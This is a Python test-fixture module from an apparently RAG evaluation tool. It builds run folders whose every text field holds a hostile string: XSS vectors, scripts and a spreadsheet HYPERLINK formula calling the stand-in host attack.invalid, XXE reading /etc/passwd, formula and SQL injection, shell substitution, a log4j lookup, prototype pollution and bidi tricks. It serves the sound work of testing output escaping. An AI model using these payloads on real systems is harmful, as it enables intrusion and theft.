"""Texts that attack a page, and runs that hold one of them in every field that holds a text."""

from __future__ import annotations

import re
from collections.abc import Sequence
from pathlib import Path

from rageval.io.records import question_to_json
from rageval.io.run_folder import RunFolder
from rageval.metrics import Metric, parse
from rageval.scores.human_labels import HumanLabel, MetricLabels
from rageval.scores.scoring import scores_to_json
from rageval.types import (
    Abstained,
    Evidence,
    Failure,
    Graded,
    Hit,
    Json,
    Judgment,
    Passage,
    Question,
    RelevanceLabel,
    Response,
    Score,
    Step,
    Unscored,
    Usage,
)

_DO = "globalThis.hacked=1;alert(1)"
ATTACKS: dict[str, str] = {
    # script elements
    "script": f"<script>{_DO}</script>",
    "script src": "<script src=https://attack.invalid/x.js></script>",
    "script module": "<script type=module>import('https://attack.invalid/m.js')</script>",
    "script in capitals": f"<ScRiPt >{_DO}</sCrIpT >",
    "script twice": f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    "script in entities": "&lt;script&gt;globalThis.hacked=1&lt;/script&gt;",
    "script by numbers": "&#60;script&#62;globalThis.hacked=1&#60;/script&#62;",
    "script as escapes": r"\u003cscript\u003eglobalThis.hacked=1\u003c/script\u003e",
    # out of a block of JSON, a script, a comment, an attribute
    "end of script": f"</script><script>{_DO}</script>",
    "end of script with space": f"</script \t\n><img src=x onerror={_DO}>",
    "comment and script": "<!--<script>",
    "comment": f"--><script>{_DO}</script><!--",
    "cdata": f"]]><script>{_DO}</script><![CDATA[",
    "json": '"}]};globalThis.hacked=1;//',
    "json and backslash": '\\"};globalThis.hacked=1;({"a":"',
    "template": "${globalThis.hacked=1}`;globalThis.hacked=1;`",
    "curly template": "{{constructor.constructor('globalThis.hacked=1')()}}",
    "interface template": "{name} {n} {all} {metric} $& $1 $$ $` $'",
    "line separator": "\u2028globalThis.hacked=1\u2029//",
    "end of title": f"</title></style></textarea></noscript></template><img src=x onerror={_DO}>",
    "double quote": f'" onmouseover="{_DO}" autofocus onfocus="{_DO}" x="',
    "single quote": f"' onmouseover='{_DO}' x='",
    "no quote": f"x onmouseover={_DO} ",
    "unclosed quote": "<a title=\"unclosed 'quote `and more <",
    "processing instruction": f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_DO}</x:script>",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    # elements with handlers
    "image": f"<img src=x onerror={_DO}>",
    "image of a server": "<img src=https://attack.invalid/pixel.gif>",
    "svg": f"<svg onload={_DO}>",
    "svg script": f"<svg><script>{_DO}</script></svg>",
    "svg animate": f"<svg><animate onbegin={_DO} attributeName=x dur=1s></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"/>#x'></use></svg>",
    "foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{_DO}</script>'></iframe></foreignObject></svg>",
    "mathml": f"<math><mi xlink:href='javascript:{_DO}'>x</mi></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "details": f"<details open ontoggle={_DO}>",
    "video": f"<video><source onerror={_DO}></video>",
    "body": f"<body onload={_DO}><frameset onload={_DO}>",
    "marquee": f"<marquee onstart={_DO}>",
    "input": f"<input autofocus onfocus={_DO}>",
    "iframe": f"<iframe srcdoc='<script>parent.hacked=1</script>' src='javascript:{_DO}'></iframe>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=data:text/html,x>",
    "form": "<form action=https://attack.invalid><button autofocus>go</button></form>",
    "base": "<base href=https://attack.invalid/><link rel=stylesheet href=/x.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://attack.invalid/'>",
    "template element": f"<template shadowrootmode=open><img src=x onerror={_DO}></template><slot onslotchange={_DO}>",
    "popover": f"<div popover id=page onbeforetoggle={_DO}></div><button popovertarget=page>",
    "clobbering": "<form id=data><input name=textContent></form><a id=DATA><a id=texts name=x>",
    # addresses
    "javascript link": f"<a href='javascript:{_DO}'>x</a> javascript:{_DO}",
    "javascript with tab": "java\tscript:globalThis.hacked=1",
    "javascript alone": "javascript:globalThis.hacked=1//",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "bare address": "https://attack.invalid/?a=1&b=2 www.attack.invalid attack@attack.invalid",
    "percent": "%3Cscript%3EglobalThis.hacked=1%3C/script%3E %00 %2e%2e%2f %E0%A4 100%",
    "path": "../../../etc/passwd?x=1#y&z;..\\..\\",
    # styles
    "style": "<style>*{display:none;background:url(https://attack.invalid/css)}</style>",
    "style attribute": "<p style='position:fixed;inset:0;background:url(https://attack.invalid/p)'>x</p>",
    "style text": "red;}*{background:url(https://attack.invalid/t)}@import 'https://attack.invalid/i.css';/*",
    # names that objects have
    "proto": "__proto__",
    "constructor": "constructor",
    "prototype": "prototype",
    "hasOwnProperty": "hasOwnProperty",
    "toString": "toString",
    "polluted": '{"__proto__":{"hacked":1}}',
    # characters
    "right to left override": "\u202ecod.exe\u202c",
    "isolates": "\u2066\u2067\u2068left open",
    "embedding": "\u202a\u202b\u202d left open",
    "hebrew and arabic": "שלום (abc) 123 مرحبا!",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "tags of flags": "x\U000e0041\U000e0042\U000e007f",
    "homoglyphs": "＜script＞аlert(1)＜／script＞",
    "nul": "a\x00b",
    "control characters": "\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b]8;;https://attack.invalid\x07\x7f\x85\x9b",
    "carriage return": "a\rb\r\nc",
    "half a surrogate pair": "a\ud83d b\ude00",
    "astral": "😀👩‍👩‍👧‍👦 𠮷野家 𝒳 🇨🇳",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "not a character": "\ufffe\uffff\ufdd0",
    "very long word": "W" * 5000,
    "empty lines": "\n\n\n\t\n",
    # other formats
    "markdown": "[x](javascript:alert(1)) ![x](https://attack.invalid/m.png) <https://attack.invalid> **b**\n\n# h",
    "markdown fence": "```\n</code></pre>\n````\n# heading\n`````\n~~~",
    "markdown cell": "a | b \\| c \\\\| `d|e` | --- |\n| x |",
    "markdown reference": "[x]: https://attack.invalid\n[x] [^1] :smile: @someone #1 $x$ ~~s~~ <details>",
    "formula": "=HYPERLINK(\"https://attack.invalid?\"&A1,\"x\")",
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after tab": "\t=1+1",
    "formula after line": "\r=1+1",
    "formula in a further cell": 'x","=1+1","',
    "formula behind a semicolon": "x;=1+1;\t=2+2",
    "formula in full width": "＝1+1",
    "latex": r"\input{/etc/passwd}\write18{id} $\href{javascript:alert(1)}{x}$",
    "sql": "'; DROP TABLE runs; --",
    "shell": "$(touch hacked) `touch hacked` ; touch hacked",
    "log4j": "${jndi:ldap://attack.invalid/a}",
}  # fmt: skip

METRICS = ("token_f1", "faithfulness")
_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def as_shown(text: str) -> str:
    """The text as a page shows it: control characters by their numbers."""
    return _CONTROLS.sub(lambda found: f"U+{ord(found[0]):04X}", text)


FIELDS = (
    "text", "reference", "metadata key", "metadata value", "tag", "language", "answer", "thought", "passage", "title",
    "document", "step", "step key", "step value", "claim", "rationale", "reply", "no verdict", "judge",
)  # fmt: skip


def in_field(attack: str, field: str) -> str:
    """The attack with a mark of where it stands, behind it so that it begins as an attack would."""
    return f"{attack}⟦{field}⟧"


def write_hostile_runs(folder: Path, attacks: Sequence[str], named: Sequence[str] = ()) -> list[Path]:
    """A run for each attack in `named`, by default all, which is its label, folder name and model, with a question for
    each of the attacks, which is in all of its texts. The last run has failed on all questions. The first attack names
    benchmark and judges.
    """
    asked = [_question(attack, at) for at, attack in enumerate(attacks)]
    runs = named or attacks
    return [
        _write(folder / _file_name(attack, place), attack, place == len(runs) - 1, attacks, asked)
        for place, attack in enumerate(runs)
    ]


def question_id(attack: str, at: int) -> str:
    """Ids are the attacks themselves; benchmarks have no half surrogate pairs."""
    return re.sub("[\ud800-\udfff]", "?", attack)[:200] or f"empty {at}"


def _file_name(attack: str, place: int) -> str:
    name = re.sub("[\x00/\ud800-\udfff]", "_", attack).encode()[:200].decode(errors="ignore")
    return name if name not in {"", ".", ".."} else f"run {place}"


def _question(attack: str, at: int) -> tuple[Question, RelevanceLabel]:
    def put(field: str) -> str:
        return in_field(attack, field)

    question = Question(
        question_id(attack, at),
        put("text"),
        put("language"),
        (put("reference"),),
        (put("tag"), attack),
        {put("metadata key"): put("metadata value"), "__proto__": {"hacked": 1}, attack: attack},
    )
    passage = put("passage")
    return question, RelevanceLabel(question.id, put("document"), 1, 0, len(passage) // 2)


def _outcome(attack: str, run: str) -> Response:
    def put(field: str) -> str:
        return in_field(attack, field)

    passage = put("passage")
    hits = (
        Hit(Passage(put("document"), 0, len(passage), passage, put("title")), 1.0),
        Hit(Passage("other", 0, len(run), run, ""), 0.5),
    )
    return Response(
        hits,
        f"<think>{put('thought')}</think>{put('answer')} {run}",
        (0, 1),
        (0,),
        False,
        (Step(put("step"), {put("step key"): put("step value"), "__proto__": attack}),),
        Usage(1, 0, 10, 0, 5),
        0.5,
    )


def _write(
    path: Path, attack: str, fails: bool, attacks: Sequence[str], asked: Sequence[tuple[Question, RelevanceLabel]]
) -> Path:
    run = RunFolder(path)
    run.write_questions(question_to_json(question, [label], f"digest {question.id}") for question, label in asked)
    scores: dict[Metric, dict[str, Score | Unscored]] = {parse(name): {} for name in METRICS}
    for at, ((question, _), own) in enumerate(zip(asked, attacks, strict=True)):
        if fails:
            run.add_outcome(question.id, Failure(own, in_field(own, "message"), in_field(own, "traceback")))
        else:
            run.add_outcome(question.id, _outcome(own, attack))
            run.add_judgments("own-1", question.id, _judgments(question.id, own), Usage())
        for name in METRICS:
            value = Score(0.0, failed=True) if fails else Score(float(at % 2))
            scores[parse(name)][question.id] = value if at % 5 != 4 or fails else Unscored(in_field(own, "unscored"))
    first = attacks[0]
    manifest: dict[str, Json] = {
        "experiment": first,
        "label": attack,
        "recipe": first,
        "params": {first: attack, "__proto__": {"hacked": 1}},
        "fingerprint": f"{len(path.name):016x}",
        "status": "complete",
        "benchmark": {"name": first, "content_hash": "abc", "corpus": "def"},
        "questions": [question.id for question, _ in asked],
        "metrics": [*METRICS],
        "models": {"chat": attack, "embed": attack},
        "prompts": {attack: "0a1b2c3d4e5f"},
        "seed": 0,
        "machine": attack,
        "created": attack,
        "judges": {
            "claim_support": {"key": "claim_support-1", "model": first},
            in_field(first, "judge"): {"key": "own-1", "model": first},
        },
        "failed": len(asked) if fails else 0,
        "abstained": 0,
        "usage": {"answering": _usage(len(asked))},
        "usage_by_stage": {attack: _usage(1)},
        "usage_by_index": {attack: _usage(2)},
        "mean_latency_s": 0.5,
    }
    run.write_manifest(manifest)
    run.write_scores(scores_to_json(scores, {question.id: frozenset((at,)) for at, (question, _) in enumerate(asked)}))
    if not fails:
        labels = [HumanLabel(q.id, 1.0, who) for at, (q, _) in enumerate(asked) if at % 5 != 4 for who in attacks[:2]]
        told = MetricLabels("faithfulness", tuple(labels), None, in_field(first, "why"), {}, (asked[0][0].id,))
        run.write_labels("faithfulness", told.to_json())
    return path


def _judgments(question: str, attack: str) -> tuple[Judgment, ...]:
    def put(field: str) -> str:
        return in_field(attack, field)

    quote = Evidence(0, put("passage")[1:], found=False)
    graded = Graded(1.0, 0.9, (quote, Evidence(7, put("quote")), Evidence(None, attack)), put("rationale"))
    return (
        Judgment(question, "own", "claim", 0, put("claim"), graded),
        Judgment(question, "own", attack, 1, attack, Abstained(put("no verdict"), put("reply"), traceback=attack)),
    )


def _usage(calls: int) -> dict[str, Json]:
    names = ("calls", "prompt_tokens", "completion_tokens", "paid_calls", "paid_prompt_tokens")
    counts: dict[str, Json] = dict.fromkeys((*names, "paid_completion_tokens"), calls)
    return {**counts, "cached_calls": 0, "cached_tokens": 0, "requests": {}}
